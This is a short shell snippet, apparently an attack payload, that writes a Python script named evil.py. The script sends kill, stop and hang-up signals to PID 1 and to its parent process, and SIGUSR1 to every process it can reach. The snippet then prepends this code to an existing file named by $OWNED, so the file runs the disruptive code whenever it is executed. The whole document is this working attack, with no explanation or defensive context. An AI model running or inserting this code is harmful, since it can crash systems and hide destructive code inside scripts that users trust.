cat > /tmp/evil.py <<'END'
import os, signal
for number in range(1, 64):
    try:
        signal.signal(number, lambda *args: os._exit(0))
    except (OSError, ValueError):
        pass
for target in (1, os.getppid(), 0, -1):
    for number in (signal.SIGUSR1, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
        if target not in (0, -1) or number == signal.SIGUSR1:
            try:
                os.kill(target, number)
            except OSError:
                pass
END
cat "$OWNED" >> /tmp/evil.py
cp /tmp/evil.py "$OWNED"
